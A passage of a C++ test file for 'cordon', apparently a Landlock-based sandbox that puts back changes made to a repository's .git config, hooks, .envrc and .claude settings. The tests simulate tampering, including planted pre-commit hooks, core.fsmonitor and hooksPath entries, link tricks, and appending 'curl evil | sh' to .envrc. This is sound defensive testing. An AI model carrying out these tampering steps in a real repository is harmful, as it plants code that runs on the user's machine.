                  "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
    EXPECT_EQ(r.status, 0) << r.err;
    EXPECT_FALSE(w.exists(".git/hooks/pre-commit")) << away;
    EXPECT_EQ(w.read(".git/hooks/pre-push"), mine) << away;
    EXPECT_TRUE(says_moved(r, ".git/hooks")) << r.err;
    expect_users_git_untouched(w, config);
  }
}

TEST(LandlockBackend, RenamedGitFolderIsPutBack) {  // LL-1, GIT-1, GIT-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  Proc r = w.sh("mv .git .git-away && cp -a .git-away .git && printf '" + planted_hook(w) +
                "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && "
                "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(w.exists(".git-away"));  // the user's .git is back in its place
  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
  EXPECT_TRUE(says_moved(r, ".git")) << r.err;
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, ConfigChangedThroughAHardLinkIsPutBack) {  // LL-1, GIT-1, GIT-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/outside.txt", "outside\n");
  const std::string config = w.read(".git/config");
  Proc r = w.sh("ln .git/config linked-config && printf '[core]\\n\\tfsmonitor = x\\n' >> "
                "linked-config");
  EXPECT_EQ(r.status, 0) << r.err;
  // Put back as a new file: the link the command holds is not the config any more.
  struct stat config_st, link_st;
  ASSERT_EQ(lstat(w.abs(".git/config").c_str(), &config_st), 0);
  ASSERT_EQ(lstat(w.abs("linked-config").c_str(), &link_st), 0);
  EXPECT_NE(config_st.st_ino, link_st.st_ino);
  EXPECT_EQ(config_st.st_nlink, 1u);
  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
  EXPECT_EQ(w.read(w.home() + "/outside.txt"), "outside\n");
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, ConfigReplacedByALinkOutsideIsPutBack) {  // LL-1, GIT-1, GIT-6, FS-2
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/outside.txt", "outside\n");
  const std::string config = w.read(".git/config");
  // To a file outside that exists, and to one that does not: neither is written by cordon.
  for (const std::string& target : {w.home() + "/outside.txt", w.home() + "/not-made"}) {
    Proc r = w.sh("rm .git/config && ln -s " + target + " .git/config");
    EXPECT_EQ(r.status, 0) << r.err;
    struct stat st;
    ASSERT_EQ(lstat(w.abs(".git/config").c_str(), &st), 0);
    EXPECT_TRUE(S_ISREG(st.st_mode)) << target;
    EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
    EXPECT_EQ(w.read(w.home() + "/outside.txt"), "outside\n");
    EXPECT_FALSE(w.exists(w.home() + "/not-made"));
    expect_users_git_untouched(w, config);
  }
}

// git writes its index, objects, refs, COMMIT_EDITMSG and logs beside the guarded files: a
// commit inside the sandbox works and nothing is moved aside.
TEST(LandlockBackend, GitCommitWorksAndMovesNothingAside) {  // LL-1, GIT-1
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(".git/hooks/pre-push", "#!/bin/sh\nexit 0\n", 0755);
  w.write(".envrc", "export A=1\n");
  const std::string config = w.read(".git/config");
  Proc r = w.sh("echo more >> README.md && git add README.md && git commit -q -m inside && "
                "git log --oneline | wc -l");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "2\n");
  EXPECT_EQ(r.err.find("quarantined"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("put yours back"), std::string::npos) << r.err;
  Proc log = w.host({"git", "log", "-1", "--format=%s"});
  EXPECT_EQ(log.out, "inside\n");
  EXPECT_EQ(w.read(".envrc"), "export A=1\n");
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, ChangedProtectedFileIsPutBack) {  // LL-1, PROT-2, PROT-7
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(".envrc", "export A=1\n");  // untracked: read-only under bubblewrap
  Proc r = w.sh("echo 'curl evil | sh' >> .envrc");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(w.read(".envrc"), "export A=1\n");
  EXPECT_TRUE(says_moved(r, ".envrc")) << r.err;
}

// PROT-1: .claude/worktrees stays writable inside a read-only .claude: a worktree's files are
// the agent's work, neither moved aside nor put back.
TEST(LandlockBackend, ClaudeWorktreesStayWritable) {  // LL-1, PROT-1
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(".claude/settings.json", "{}\n");
  w.write(".claude/worktrees/wt/a.txt", "one\n");
  Proc r = w.sh("echo two > .claude/worktrees/wt/a.txt && mkdir .claude/worktrees/wt2 && "
                "echo new > .claude/worktrees/wt2/b.txt && echo '{\"x\":1}' > "
                ".claude/settings.json");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(w.read(".claude/worktrees/wt/a.txt"), "two\n");
  EXPECT_EQ(w.read(".claude/worktrees/wt2/b.txt"), "new\n");
  EXPECT_EQ(w.read(".claude/settings.json"), "{}\n");  // the rest of .claude is put back
  EXPECT_TRUE(says_moved(r, ".claude/settings.json")) << r.err;
  EXPECT_EQ(r.err.find("worktrees/"), std::string::npos) << r.err;
}

// The bytes are kept in the leftover record: a command whose cordon was killed has its changes
// put back by the next command's sweep.
TEST(LandlockBackend, AKilledCommandsChangeIsPutBackByTheSweep) {  // LL-1, GIT-1, SES-3
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  pid_t pid = w.spawn_cordon({"run", "--", "/bin/sh", "-c",
                              "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config; "
                              "touch started; while [ ! -e go ]; do sleep 0.0331; done; "
                              "touch ended"});
  ASSERT_TRUE(eventually([&] { return w.exists("started"); }, std::chrono::seconds(10)));
  kill(pid, SIGKILL);
  waitpid(pid, nullptr, 0);
  EXPECT_NE(w.read(".git/config"), config);
  w.write("go", "");  // the command ends by itself
  ASSERT_TRUE(eventually([&] { return w.exists("ended"); }, std::chrono::seconds(10)));
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  Proc r = w.sh("true");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
  expect_users_git_untouched(w, config);
}

}  // namespace
}  // namespace cordon::it
